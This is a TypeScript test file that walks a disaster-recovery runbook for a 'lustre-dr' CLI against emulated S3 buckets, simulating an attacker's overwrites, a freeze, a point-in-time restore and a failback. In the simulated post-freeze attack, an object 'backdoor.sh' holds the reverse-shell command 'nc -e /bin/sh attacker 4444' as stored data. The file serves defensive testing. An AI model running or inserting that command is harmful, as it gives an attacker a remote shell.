/**
 * Walks docs/runbook.md: every `npx lustre-dr ...` line of its `sh` blocks, in document order, through the real CLI
 * definition (commander parses the flags as written) and the real command code, against the moto emulator (one server
 * per side) and the fake Pulumi CLI. Each `text` block after a command must match what the command printed.
 *
 * What stands in for what: the fake Pulumi CLI keeps the stacks and decides their outputs with the program's own
 * handshake; EmulatedDeployment applies each update's outputs to the emulated buckets; FSx and the CloudWatch metrics,
 * which moto lacks, answer through aws-sdk-client-mock from the stacks' outputs. Profiles are real: a credentials file
 * defines `primary` and `dr` with the emulator's keys, and each AWS-facing command gets its side's emulator endpoint
 * (AWS_ENDPOINT_URL points at a closed local port, so a request without one fails here instead of leaving the machine).
 * Commands run from the project directory, like an operator in their checkout (plan files, the drill history).
 *
 * The incident: in section "1." good data is on both buckets, then an attacker's overwrites and new keys on the primary
 * reach the dr bucket too (T is recorded between them), then the primary stops answering the operator (its endpoint
 * is a closed port; its stack state is still readable, since the backend lives outside the primary account). From
 * section "3.", after the freeze, the attacker keeps writing to the primary: a content change, a chmod (metadata
 * only), a new key, a delete, and a file users are about to create on the dr side. In section "4." users write and
 * delete on the recovered side; from section "6." (fail back) the primary is back. The times in the runbook's commands
 * are examples, as the runbook says: `--to`, `--restore-to` and `--restore-primary-to` get the recorded T, `--since`
 * the time of the freeze. Replication is played by the replication copier (tests/emulator/replicationCopier.ts)
 * while both stacks report `active`; S3 Batch Replication (moto has no S3 Control jobs) answers through
 * aws-sdk-client-mock and is the copier's `batchReplicate`, with the harder of S3's possible orderings: a replica
 * older than the destination's current version stays noncurrent. The walk ends with the two buckets compared.
 */
import { CloudWatchClient, GetMetricStatisticsCommand } from "@aws-sdk/client-cloudwatch";
import { DataRepositoryAssociation, DescribeDataRepositoryAssociationsCommand, DescribeFileSystemsCommand, FSxClient } from "@aws-sdk/client-fsx";
import {
    CopyObjectCommand,
    DeleteObjectCommand,
    GetBucketPolicyCommand,
    GetBucketReplicationCommand,
    GetObjectCommand,
    ListObjectVersionsCommand,
    PutObjectCommand,
    S3Client,
} from "@aws-sdk/client-s3";
import { CreateJobCommand, CreateJobCommandInput, DescribeJobCommand, S3ControlClient } from "@aws-sdk/client-s3-control";
import { AwsClientStub, mockClient } from "aws-sdk-client-mock";
import { expect } from "chai";
import { Command } from "commander";
import * as fs from "fs";
import * as net from "net";
import * as path from "path";
import { buildProgram } from "../infra/cli";
import type { Output } from "../infra/output";
import { DrillCommandOptions, runDrillCommand } from "../infra/drill/command";
import { describeSyncResult, runSyncExisting, SyncExistingOptions } from "../infra/replication/syncExisting";
import { resolveSide } from "../infra/aws/sides";
import { DeployOptions, runDeploy } from "../infra/lifecycle/deploy";
import { FailbackOptions, runFailback } from "../infra/lifecycle/failback";
import { FreezeOptions, runFreeze } from "../infra/lifecycle/freeze";
import { RecoverOptions, runRecover } from "../infra/lifecycle/recover";
import { sideClientConfig } from "../infra/aws/clients";
import { createStackOutputsReader } from "../infra/pulumi/outputsReader";
import { describeResult, parseConcurrency } from "../infra/restore/command";
import { parseIsoTime } from "../infra/time";
import { restoreToPointInTime } from "../infra/restore/restore";
import { compareBuckets } from "../infra/compare/compare";
import { CompareCommandOptions, runCompareCommand } from "../infra/compare/command";
import { copySource } from "../infra/restore/apply";
import { runStatus, StatusOptions } from "../infra/status/command";
import { formatPlanTable } from "../infra/plan/model";
import { planStacks } from "../infra/plan/run";
import { readStackConfigFile } from "../stacks/stackConfigFile";
import type { SiteOutputs } from "../stacks/outputs";
import { emulatorCredentials, emulatorPair, EmulatorPair } from "./emulator/moto";
import { ReplicationCopier } from "./emulator/replicationCopier";
import { EmulatedDeployment } from "./support/emulatedDeployment";
import { FakePulumiCommand } from "./support/fakePulumi";
import { tempProject, TempProject, testEnv } from "./support/project";
import { inlineCommands, RunbookCommand, runbookCommands, unmatchedLine } from "./support/runbook";

const runbookPath = path.resolve(__dirname, "..", "docs", "runbook.md");

const sites = {
    primary: { accountId: "111111111111", region: "us-east-1" },
    dr: { accountId: "222222222222", region: "us-west-2" },
};

/** What one runbook command printed. */
interface Printed {
    text: string;
    json: boolean;
}

function printingOutput(json: boolean, printed: Printed[]): Output {
    return {
        json,
        progress() {},
        result(data, human) {
            printed.push({ text: json ? JSON.stringify(data, null, 2) : human(), json });
        },
    };
}

function closedPort(): Promise<number> {
    return new Promise((resolve) => {
        const server = net.createServer();
        server.listen(0, "127.0.0.1", () => {
            const { port } = server.address() as net.AddressInfo;
            server.close(() => resolve(port));
        });
    });
}

/** The first yaml block after a heading, as written. */
function yamlBlockAfter(markdown: string, heading: string): string {
    const after = markdown.slice(markdown.indexOf(heading));
    const block = /```yaml\n([\s\S]*?)```/.exec(after);
    if (!block) {
        throw new Error(`no yaml block after ${heading}`);
    }
    return block[1];
}

describe("docs/runbook.md, walked against the emulator", function () {
    this.timeout(60_000);
    const markdown = fs.readFileSync(runbookPath, "utf8");
    const commands = runbookCommands(markdown);
    const sections = markdown
        .split("\n")
        .filter((line) => line.startsWith("## "))
        .map((line) => line.slice(3).trim());

    it("proves the pair with a drill, then runs freeze -> restore dry run -> recover --restore-to -> status -> failback -> drill", () => {
        const names = commands.map((c) => c.argv[0]);
        const at = (name: string, from = 0) => names.indexOf(name, from);
        const recover = at("recover");
        expect(at("drill"), "a drill before the incident").to.be.within(0, recover);
        expect(recover, "the runbook runs lustre-dr recover").to.be.greaterThan(-1);
        const freeze = at("freeze");
        expect(freeze, "the runbook freezes the dr side before anything else in the incident").to.be.within(at("status", at("drill")), recover);
        expect(at("restore", freeze), "a restore dry run between the freeze and recover").to.be.within(freeze, recover);
        expect(commands[recover].argv, "recover restores before it activates").to.include("--restore-to");
        const status = at("status", recover);
        expect(status, "lustre-dr status after recover").to.be.greaterThan(recover);
        const failback = at("failback", status);
        expect(failback, "lustre-dr failback after that status").to.be.greaterThan(status);
        expect(commands[failback].argv, "failback restores the primary, replays the outage and compares").to.include.members(["--restore-primary-to", "--since", "--wait"]);
        // A drill needs both sides replicating, so during the incident status is the check and the drill follows failback.
        expect(at("drill", failback), "a drill after failback").to.be.greaterThan(failback);
    });

    it("quotes in its prose only commands and flags the CLI accepts", async () => {
        const quoted = inlineCommands(markdown);
        expect(quoted.map((argv) => argv[0])).to.include.members(["recover", "sync-existing", "drill", "status", "destroy"]);
        for (const argv of quoted) {
            const cli = (await buildProgram()).configureOutput({ writeOut: () => undefined, writeErr: () => undefined });
            for (const command of cli.commands) {
                command.configureOutput({ writeOut: () => undefined, writeErr: () => undefined }).action(() => undefined);
            }
            const error = await cli.parseAsync(["node", "lustre-dr", ...argv]).then(
                () => undefined,
                (e: { code?: string; message: string }) => (e.code === "commander.helpDisplayed" ? undefined : e.message),
            );
            expect(error, `npx lustre-dr ${argv.join(" ")}`).to.equal(undefined);
        }
    });

    describe("every command, in order", function () {
        // Each command builds on the state the previous ones left; after a failure the rest would only add noise.
        this.bail(true);
        let emulators: EmulatorPair;
        let project: TempProject;
        let fake: FakePulumiCommand;
        let deployment: EmulatedDeployment;
        let primaryEndpoint: string;
        // Created in before(): mockClient replaces the client classes' send for the whole process until restored.
        let fsx: AwsClientStub<FSxClient>;
        let cloudWatch: AwsClientStub<CloudWatchClient>;
        let s3: AwsClientStub<S3Client>;
        let s3control: AwsClientStub<S3ControlClient>;
        /** Objects users wrote on the recovered side during the outage. */
        const outageKeys = ["projects/incident-notes.txt", "results/run-0042.csv"];
        const savedEnv: Record<string, string | undefined> = {};

        before(async () => {
            emulators = await emulatorPair();
            await Promise.all([emulators.primary.reset(), emulators.dr.reset()]);
            primaryEndpoint = emulators.primary.endpoint;
            project = tempProject();
            fake = new FakePulumiCommand(sites);
            deployment = new EmulatedDeployment(fake, emulators);
            // Replication runs while both stacks report active, as the program configures it.
            const applyUpdate = fake.run.bind(fake);
            fake.run = async (args, cwd, env, onOutput) => {
                const result = await applyUpdate(args, cwd, env, onOutput);
                if (args[0] === "up" && copier) {
                    await followStacks(copier);
                }
                return result;
            };
            const names = ["AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_PROFILE", "AWS_ENDPOINT_URL", "AWS_SHARED_CREDENTIALS_FILE", "AWS_CONFIG_FILE"];
            for (const name of names) {
                savedEnv[name] = process.env[name];
            }
            const profile = (name: string) => `[${name}]\naws_access_key_id = ${emulatorCredentials.accessKeyId}\naws_secret_access_key = ${emulatorCredentials.secretAccessKey}\n`;
            fs.writeFileSync(path.join(project.dir, "aws-credentials"), `${profile("primary")}${profile("dr")}`);
            fs.writeFileSync(path.join(project.dir, "aws-config"), "");
            process.env.AWS_SHARED_CREDENTIALS_FILE = path.join(project.dir, "aws-credentials");
            process.env.AWS_CONFIG_FILE = path.join(project.dir, "aws-config");
            // Only the profiles hold credentials: a command that ignores its profile flag fails here.
            delete process.env.AWS_ACCESS_KEY_ID;
            delete process.env.AWS_SECRET_ACCESS_KEY;
            process.env.AWS_ENDPOINT_URL = `http://127.0.0.1:${await closedPort()}`;
            delete process.env.AWS_PROFILE;

            fsx = mockClient(FSxClient);
            cloudWatch = mockClient(CloudWatchClient);
            s3 = mockClient(S3Client);
            s3control = mockClient(S3ControlClient);
            // Every S3 call goes to moto, except the two reads moto cannot answer faithfully (see EmulatedDeployment).
            s3.send.callThrough();
            s3.on(GetBucketPolicyCommand).callsFake(async (input: { Bucket: string }) => ({ Policy: deployment.policies.get(input.Bucket) }));
            s3.on(GetBucketReplicationCommand).callsFake(async (input: { Bucket: string }) => {
                const configuration = deployment.replication.get(input.Bucket);
                if (!configuration) {
                    throw Object.assign(new Error("The replication configuration was not found"), {
                        name: "ReplicationConfigurationNotFoundError",
                        $metadata: { httpStatusCode: 404 },
                    });
                }
                return { ReplicationConfiguration: configuration };
            });
            // FSx answers from the stacks' outputs: a side with a file system has it AVAILABLE, linked to its bucket.
            const withFileSystem = () => deployment.deployed().filter((o): o is SiteOutputs & { fileSystemId: string } => !!o.fileSystemId);
            const association = (o: SiteOutputs & { fileSystemId: string }): DataRepositoryAssociation => ({
                AssociationId: `dra-${o.fileSystemId.slice(3)}`,
                FileSystemId: o.fileSystemId,
                Lifecycle: "AVAILABLE",
                FileSystemPath: "/s3",
                DataRepositoryPath: `s3://${o.bucketName}/`,
                S3: { AutoImportPolicy: { Events: ["NEW", "CHANGED", "DELETED"] }, AutoExportPolicy: { Events: ["NEW", "CHANGED", "DELETED"] } },
            });
            fsx.on(DescribeFileSystemsCommand).callsFake((input: { FileSystemIds?: string[] }) => ({
                FileSystems: withFileSystem()
                    .filter((o) => input.FileSystemIds?.includes(o.fileSystemId))
                    .map((o) => ({ FileSystemId: o.fileSystemId, Lifecycle: "AVAILABLE", FileSystemType: "LUSTRE" })),
            }));
            fsx.on(DescribeDataRepositoryAssociationsCommand).callsFake(async (input, getClient) => {
                const region = await getClient().config.region();
                const fileSystems: string[] | undefined = input.Filters?.find((f: { Name: string }) => f.Name === "file-system-id")?.Values;
                return {
                    Associations: withFileSystem()
                        .filter((o) => o.region === region && (!fileSystems || fileSystems.includes(o.fileSystemId)))
                        .map(association),
                };
            });
            // With replication running (the copier), the job is the copier's batch replication of what its manifest
            // filter selects; before that (section 0), it counts the source objects the filter selects in moto.
            let job: CreateJobCommandInput | undefined;
            let replicated: { replicated: number; noncurrent: number; failed: number } | undefined;
            s3control.on(CreateJobCommand).callsFake(async (input: CreateJobCommandInput) => {
                job = input;
                replicated = undefined;
                const generator = input.ManifestGenerator?.S3JobManifestGenerator;
                const createdAfter = generator?.Filter?.CreatedAfter;
                const source = deployment.deployed().find((o) => o.bucketName === generator?.SourceBucket?.split(":").pop());
                if (copier && source) {
                    replicated = await copier.batchReplicate(source.role as "primary" | "dr", {
                        select: (version) => !createdAfter || version.lastModified > createdAfter,
                        olderStaysNoncurrent: true,
                    });
                }
                return { JobId: "job-1" };
            });
            s3control.on(DescribeJobCommand).callsFake(async () => {
                if (replicated) {
                    const total = replicated.replicated + replicated.noncurrent + replicated.failed;
                    return {
                        Job: { JobId: "job-1", Status: "Complete", ProgressSummary: { TotalNumberOfTasks: total, NumberOfTasksSucceeded: total - replicated.failed, NumberOfTasksFailed: replicated.failed } },
                    };
                }
                const generator = job?.ManifestGenerator?.S3JobManifestGenerator;
                const createdAfter = generator?.Filter?.CreatedAfter;
                const bucket = generator?.SourceBucket?.split(":").pop() ?? "";
                const source = deployment.deployed().find((o) => o.bucketName === bucket)!;
                const role = source.role as "primary" | "dr";
                const client = new S3Client({ region: source.region, endpoint: emulators[role].endpoint, forcePathStyle: true, credentials: emulatorCredentials });
                const listed = await client.send(new ListObjectVersionsCommand({ Bucket: bucket }));
                client.destroy();
                const selected = (listed.Versions ?? []).filter((v) => v.IsLatest && (!createdAfter || (v.LastModified ?? new Date(0)) > createdAfter));
                return {
                    Job: { JobId: "job-1", Status: "Complete", ProgressSummary: { TotalNumberOfTasks: selected.length, NumberOfTasksSucceeded: selected.length, NumberOfTasksFailed: 0 } },
                };
            });
            cloudWatch.on(GetMetricStatisticsCommand).callsFake((input: { MetricName: string; EndTime: Date }) => ({
                Datapoints: [{ Timestamp: input.EndTime, Maximum: input.MetricName === "ReplicationLatency" ? 9 : 0, Sum: 0 }],
            }));
        });

        after(async () => {
            await copier?.stop();
            s3.restore();
            s3control.restore();
            fsx.restore();
            cloudWatch.restore();
            project?.remove();
            for (const [name, value] of Object.entries(savedEnv)) {
                if (value === undefined) {
                    delete process.env[name];
                } else {
                    process.env[name] = value;
                }
            }
        });

        const workspace = () => ({ projectDir: project.dir, env: testEnv(), pulumiCommand: fake.asPulumiCommand() });

        /** How each command runs here: the real implementation, with the emulator and the fake Pulumi CLI. */
        const handlers: Record<string, (options: Record<string, unknown>, output: Output) => Promise<unknown>> = {
            deploy: (options, output) => runDeploy(options as unknown as DeployOptions, { output, workspace: workspace() }),
            freeze: (options, output) => runFreeze(options as unknown as FreezeOptions, { output, workspace: workspace() }),
            // The restore inside recover reaches the dr emulator with the profile recover was given.
            recover: (options, output) =>
                runRecover(options as unknown as RecoverOptions, {
                    output,
                    workspace: workspace(),
                    restoreClient: (location) => new S3Client(sideClientConfig({ ...location, endpoint: emulators.dr.endpoint })),
                }),
            // Each side's S3 client reaches its emulator with the profile failback was given (the restore of the
            // primary, the comparison, the resend); the comparison reads replication status from the copier.
            failback: (options, output) =>
                runFailback(options as unknown as FailbackOptions, {
                    output,
                    workspace: workspace(),
                    pollSeconds: 0.1,
                    s3: (role, location) => new S3Client(sideClientConfig({ ...location, endpoint: role === "primary" ? primaryEndpoint : emulators.dr.endpoint })),
                    s3control: (location) => new S3ControlClient({ region: location.region, credentials: emulatorCredentials }),
                    compare: { replicationStatus: async (side, key, versionId) => copier?.replicationStatus(side.side, key, versionId) },
                }),
            // runSyncExisting returns its result; printing it is the command's action, as here.
            // The command's own code, with each side's emulator as endpoint and replication status from the copier.
            compare: async (options, output) => {
                const { exitCode } = await runCompareCommand({ ...(options as CompareCommandOptions), primaryEndpoint, drEndpoint: emulators.dr.endpoint }, output, {
                    readOutputs: createStackOutputsReader(workspace()),
                    compare: { replicationStatus: async (side, key, versionId) => copier?.replicationStatus(side.side, key, versionId) },
                });
                expect(exitCode, "compare's exit code").to.equal(0);
            },
            "sync-existing": async (options, output) => {
                const result = await runSyncExisting({ ...(options as unknown as SyncExistingOptions), primaryEndpoint, drEndpoint: emulators.dr.endpoint }, {
                    output,
                    readOutputs: createStackOutputsReader(workspace()),
                    s3control: (location) => new S3ControlClient({ region: location.region, credentials: emulatorCredentials }),
                    sleep: async () => undefined,
                });
                output.result(result, () => describeSyncResult(result));
            },
            drill: async (options, output) => {
                const replication = await replicating();
                return runDrillCommand({ ...(options as DrillCommandOptions), primaryEndpoint, drEndpoint: emulators.dr.endpoint }, output, {
                    readOutputs: createStackOutputsReader(workspace()),
                    cwd: project.dir,
                    drill: {
                        // moto never sets x-amz-replication-status; the copier knows what S3 would report.
                        replicationStatus: async (side, key, versionId) => replication.replicationStatus(side.role, key, versionId),
                        loopSettleMs: 200,
                        cleanupSettleMs: 200,
                        poll: { initialMs: 50, factor: 2, maxMs: 200 },
                    },
                });
            },
            // Plans the project's own stack files offline, as the command does, from the project directory.
            plan: async (options, output) => {
                const configs = {
                    primary: readStackConfigFile(path.join(project.dir, "Pulumi.primary.yaml")),
                    dr: readStackConfigFile(path.join(project.dir, "Pulumi.dr.yaml")),
                };
                const plans = await planStacks({ configs }, [options.stack as "primary" | "dr"]);
                output.result(plans, () => formatPlanTable(plans));
            },
            status: (options, output) =>
                runStatus({ ...(options as StatusOptions), primaryEndpoint, drEndpoint: emulators.dr.endpoint }, output, {
                    readOutputs: createStackOutputsReader(workspace()),
                }),
            // The command's own glue, with the stack read from the fake backend and the dr emulator as endpoint.
            restore: async (options, output) => {
                const to = parseIsoTime("--to", options.to as string);
                const side = await resolveSide(
                    "dr",
                    { drStack: options.stack as string, drProfile: options.profile as string, drEndpoint: emulators.dr.endpoint },
                    createStackOutputsReader(workspace()),
                );
                const result = await restoreToPointInTime(side, {
                    to,
                    concurrency: parseConcurrency(options.concurrency as string),
                    dryRun: options.dryRun === true,
                    ...(options.planFile ? { planFile: options.planFile as string } : {}),
                });
                output.result(result, () => describeResult(result));
            },
        };

        /** The CLI as shipped, with each command's action replaced by its handler above. */
        async function program(printed: Printed[]): Promise<Command> {
            const cli = await buildProgram();
            for (const command of cli.commands) {
                command.action(async (options: Record<string, unknown>) => {
                    const handler = handlers[command.name()];
                    if (!handler) {
                        throw new Error(`tests/runbook.test.ts cannot run \`lustre-dr ${command.name()}\` yet: add a handler`);
                    }
                    await handler(options, printingOutput(options.json === true, printed));
                });
            }
            return cli;
        }

        let copier: ReplicationCopier | undefined;

        /**
         * Replication as the stacks configure it: both directions while both sides report `active`, none while a side
         * is detached. What was written meanwhile is looked at first, so it never replicates (S3 decides when it writes).
         */
        async function followStacks(running: ReplicationCopier): Promise<void> {
            const active = ["primary", "dr"].every((role) => deployment.deployed().find((o) => o.role === role)?.replicationStatus === "active");
            if (active) {
                await running.scanNow();
            }
            running.setRule("primary", { stopped: !active });
            running.setRule("dr", { stopped: !active });
        }

        /** S3 replication between the two emulated buckets, started when a command needs it and both sides are up. */
        async function replicating(): Promise<ReplicationCopier> {
            if (!copier) {
                const side = (role: "primary" | "dr") => {
                    const outputs = deployment.deployed().find((o) => o.role === role)!;
                    const client = new S3Client({ region: outputs.region, endpoint: emulators[role].endpoint, forcePathStyle: true, credentials: emulatorCredentials });
                    return { client, bucket: outputs.bucketName };
                };
                copier = new ReplicationCopier({ primary: side("primary"), dr: side("dr"), delayMs: 50 });
                await followStacks(copier);
                await copier.start();
            }
            return copier;
        }

        /** The times the runbook's examples stand for: T (last known good) and when the dr side was frozen. */
        const times: { lastKnownGood?: string; frozenAt?: string } = {};
        const dataKeys = {
            overwritten: "projects/alpha/model.bin",
            kept: "projects/alpha/readme.txt",
            planted: "projects/alpha/ransom-note.txt",
            script: "projects/alpha/run.sh",
            table: "projects/beta/data.csv",
            old: "projects/beta/old.txt",
            backdoor: "projects/alpha/backdoor.sh",
        };
        /** How FSx exports a file's POSIX attributes. */
        const posix = (mode: string) => ({ "file-owner": "1000", "file-group": "1000", "file-permissions": mode });

        function primaryClient(): S3Client {
            return new S3Client({ region: sites.primary.region, endpoint: emulators.primary.endpoint, forcePathStyle: true, credentials: emulatorCredentials });
        }
        const bucketOf = (role: "primary" | "dr") => deployment.deployed().find((o) => o.role === role)!.bucketName;

        function drClient(): S3Client {
            return new S3Client({ region: sites.dr.region, endpoint: emulators.dr.endpoint, forcePathStyle: true, credentials: emulatorCredentials });
        }

        /** Sleeps past the next whole second: S3 (and moto) report LastModified in whole seconds. */
        const nextSecond = () => new Promise((resolve) => setTimeout(resolve, 1_050 - (Date.now() % 1_000)));

        /**
         * Good data, then T, then an attacker's overwrite and planted key on the primary, all as replication would have
         * delivered them to the dr bucket before the freeze.
         */
        async function attackReplicatedToDr(): Promise<void> {
            const clients = [[primaryClient(), bucketOf("primary")], [drClient(), bucketOf("dr")]] as const;
            for (const [client, Bucket] of clients) {
                await client.send(new PutObjectCommand({ Bucket, Key: dataKeys.overwritten, Body: "good model", Metadata: posix("0100644") }));
                await client.send(new PutObjectCommand({ Bucket, Key: dataKeys.kept, Body: "read me", Metadata: posix("0100644") }));
                await client.send(new PutObjectCommand({ Bucket, Key: dataKeys.script, Body: "#!/bin/sh\nmake", Metadata: posix("0100755") }));
                await client.send(new PutObjectCommand({ Bucket, Key: dataKeys.table, Body: "1,2,3", Metadata: posix("0100644") }));
                await client.send(new PutObjectCommand({ Bucket, Key: dataKeys.old, Body: "old results", Metadata: posix("0100644") }));
            }
            await nextSecond();
            times.lastKnownGood = new Date().toISOString();
            await nextSecond();
            for (const [client, Bucket] of clients) {
                await client.send(new PutObjectCommand({ Bucket, Key: dataKeys.overwritten, Body: "encrypted by the attacker" }));
                await client.send(new PutObjectCommand({ Bucket, Key: dataKeys.planted, Body: "pay up" }));
                client.destroy();
            }
        }

        /** The attacker, still in the primary account after the freeze: nothing of this reaches the dr side. */
        async function attackPrimaryAfterFreeze(): Promise<void> {
            const client = primaryClient();
            const Bucket = bucketOf("primary");
            await client.send(new PutObjectCommand({ Bucket, Key: dataKeys.kept, Body: "defaced", Metadata: posix("0100644") }));
            const script = await client.send(new ListObjectVersionsCommand({ Bucket, Prefix: dataKeys.script }));
            const current = script.Versions?.find((v) => v.Key === dataKeys.script && v.IsLatest)?.VersionId ?? "";
            await client.send(
                new CopyObjectCommand({ Bucket, Key: dataKeys.script, CopySource: copySource(Bucket, dataKeys.script, current), MetadataDirective: "REPLACE", Metadata: posix("0100777") }),
            );
            await client.send(new PutObjectCommand({ Bucket, Key: dataKeys.backdoor, Body: "nc -e /bin/sh attacker 4444" }));
            await client.send(new DeleteObjectCommand({ Bucket, Key: dataKeys.table }));
            await client.send(new PutObjectCommand({ Bucket, Key: outageKeys[1], Body: "forged results" }));
            client.destroy();
        }

        /** The runbook's example times replaced by the ones this walk recorded. */
        function withRecordedTimes(argv: readonly string[]): string[] {
            return argv.map((word, i) => {
                const flag = argv[i - 1];
                if ((flag === "--to" || flag === "--restore-to" || flag === "--restore-primary-to") && times.lastKnownGood) {
                    return times.lastKnownGood;
                }
                if (flag === "--since" && times.frozenAt) {
                    return times.frozenAt;
                }
                return word;
            });
        }

        /** Sections whose events have happened; a section without commands (mounting clients) still has its events. */
        let sectionsEntered = 0;
        async function enter(section: string): Promise<void> {
            const index = sections.indexOf(section);
            for (; sectionsEntered <= index; sectionsEntered++) {
                await incident(sections[sectionsEntered]);
            }
        }

        async function incident(section: string): Promise<void> {
            if (/^1\./.test(section)) {
                await copier?.stop();
                copier = undefined;
                await attackReplicatedToDr();
                primaryEndpoint = `http://127.0.0.1:${await closedPort()}`;
            } else if (/^2\./.test(section)) {
                times.frozenAt = new Date().toISOString();
            } else if (/^3\./.test(section)) {
                await nextSecond();
                await attackPrimaryAfterFreeze();
            } else if (/^4\./.test(section)) {
                const dr = deployment.deployed().find((o) => o.role === "dr")!;
                const client = drClient();
                for (const Key of outageKeys) {
                    await client.send(new PutObjectCommand({ Bucket: dr.bucketName, Key, Body: `written on ${dr.role} during the outage` }));
                }
                await client.send(new DeleteObjectCommand({ Bucket: dr.bucketName, Key: dataKeys.old }));
                client.destroy();
            } else if (/^6\./.test(section)) {
                primaryEndpoint = emulators.primary.endpoint;
                // The restore of the primary comes after every outage write: its copies carry the newer LastModified.
                await nextSecond();
                await replicating();
            } else if (section === "Add DR to an existing file system") {
                // The team's stack files, written as the section shows (its yaml block), beside the example dr side.
                const adopting = yamlBlockAfter(markdown, "## Add DR to an existing file system");
                fs.writeFileSync(path.join(project.dir, "Pulumi.primary.yaml"), `config:\n  aws:region: us-east-1\n${adopting}`);
                fs.copyFileSync(path.join(__dirname, "..", "Pulumi.dr.yaml"), path.join(project.dir, "Pulumi.dr.yaml"));
            }
        }

        /** What the freeze and recover phases must have done, beyond what they printed. */
        async function checkAfter(argv: readonly string[], printed: Printed): Promise<void> {
            const dr = () => deployment.deployed().find((o) => o.role === "dr")!;
            if (argv[0] === "freeze") {
                // Detached in one update, in seconds: no file system yet, no replication rule, no grant to the primary.
                expect(fake.changes().slice(-2)).to.deep.equal(["config set-all --path dr lustre-dr:recovery.detached=true", "up dr"]);
                expect(dr()).to.include({ replicationStatus: "detached" });
                expect(dr().fileSystemId).to.equal(undefined);
                expect(dr().replicationGrantedTo).to.deep.equal([]);
                expect(deployment.replication.get(dr().bucketName)).to.equal(undefined);
            }
            if (argv[0] === "failback") {
                // The restore's copies and delete markers never reached the dr side; the one outage write the restore's
                // newer delete marker kept noncurrent on the primary was sent again by the dr side.
                expect(copier?.replications().filter((r) => r.from === "primary" && !r.key.startsWith(".lustre-dr/"))).to.deep.equal([]);
                expect(printed.text).to.match(/^Sent again from the dr side \(outage writes the job did not make current on the primary\): 1 copies, 0 delete markers: "results\/run-0042.csv"$/m);
                expect(printed.text).to.match(/^Phases: detach-primary [\d.]+ s, restore-primary [\d.]+ s, converge [\d.]+ s, replicate [\d.]+ s, compare [\d.]+ s, resend [\d.]+ s\.$/m);
            }
            if (argv[0] === "recover") {
                // freeze (skipped: step 2 froze the side), restore, then the activation update that creates the file system.
                expect(fake.changes().slice(-2)).to.deep.equal(["config set-all --path dr lustre-dr:lustre.enabled=true", "up dr"]);
                expect(dr().fileSystemId).to.be.a("string");
                expect(printed.text).to.match(/^Phases: freeze skipped \(already frozen\), restore \d+(\.\d+)? s, activate \d+(\.\d+)? s, verify \d+(\.\d+)? s\.\nSAME as at /m);
            }
        }

        function title(command: RunbookCommand): string {
            return `line ${command.line} (${command.section}): lustre-dr ${command.argv.join(" ")}`;
        }

        it("has commands to walk", () => {
            expect(commands.length).to.be.greaterThan(3);
        });

        for (const command of commands) {
            it(title(command), async () => {
                await enter(command.section);
                const printed: Printed[] = [];
                const cwd = process.cwd();
                process.chdir(project.dir);
                try {
                    await (await program(printed)).parseAsync(["node", "lustre-dr", ...withRecordedTimes(command.argv)]);
                } finally {
                    process.chdir(cwd);
                }
                expect(printed, "the command printed its result").to.have.length(1);
                await checkAfter(command.argv, printed[0]);
                const missing = command.expected && unmatchedLine(command.expected, printed[0].text);
                if (missing !== undefined) {
                    expect.fail(`the runbook's expected output after line ${command.line} shows\n  ${missing}\nwhere the command printed:\n${printed[0].text}`);
                }
            });
        }

        it("left the dr bucket as it was at T, plus what users wrote during the outage", async function () {
            if (!commands.some((c) => c.argv[0] === "restore")) {
                this.skip();
            }
            const client = drClient();
            const Bucket = deployment.deployed().find((o) => o.role === "dr")!.bucketName;
            const body = async (Key: string) =>
                client.send(new GetObjectCommand({ Bucket, Key })).then(
                    (response) => response.Body?.transformToString(),
                    (error: Error) => error.name,
                );
            try {
                expect(await body(dataKeys.overwritten)).to.equal("good model");
                expect(await body(dataKeys.kept)).to.equal("read me");
                expect(await body(dataKeys.planted)).to.equal("NoSuchKey");
                for (const key of outageKeys) {
                    expect(await body(key)).to.match(/during the outage/);
                }
                expect(await body(dataKeys.old)).to.equal("NoSuchKey");
            } finally {
                client.destroy();
            }
        });

        it("left the pair identical after failback: the attacker's writes to the primary after the freeze are undone", async function () {
            if (!commands.some((c) => c.argv[0] === "failback" && c.argv.includes("--restore-primary-to"))) {
                this.skip();
            }
            const clients = { primary: primaryClient(), dr: drClient() };
            try {
                const side = (role: "primary" | "dr") => ({ side: role, client: clients[role], bucket: bucketOf(role), region: sites[role].region });
                const compared = await compareBuckets(side("primary"), side("dr"), {
                    replicationStatus: async (s, key, versionId) => copier?.replicationStatus(s.side, key, versionId),
                });
                expect(compared.verdict, JSON.stringify(compared.first)).to.equal("identical");
                const body = async (Key: string) =>
                    clients.primary.send(new GetObjectCommand({ Bucket: bucketOf("primary"), Key })).then(
                        async (response) => ({ body: await response.Body?.transformToString(), mode: response.Metadata?.["file-permissions"] }),
                        (error: Error) => error.name,
                    );
                expect(await body(dataKeys.kept)).to.deep.equal({ body: "read me", mode: "0100644" });
                expect(await body(dataKeys.script)).to.deep.equal({ body: "#!/bin/sh\nmake", mode: "0100755" });
                expect(await body(dataKeys.overwritten)).to.deep.equal({ body: "good model", mode: "0100644" });
                expect(await body(dataKeys.table)).to.deep.equal({ body: "1,2,3", mode: "0100644" });
                expect(await body(dataKeys.backdoor)).to.equal("NoSuchKey");
                expect(await body(dataKeys.planted)).to.equal("NoSuchKey");
                expect(await body(dataKeys.old)).to.equal("NoSuchKey");
                expect(await body(outageKeys[1])).to.deep.equal({ body: "written on dr during the outage", mode: undefined });
                expect(copier?.errors()).to.deep.equal([]);
            } finally {
                clients.primary.destroy();
                clients.dr.destroy();
            }
        });
    });
});
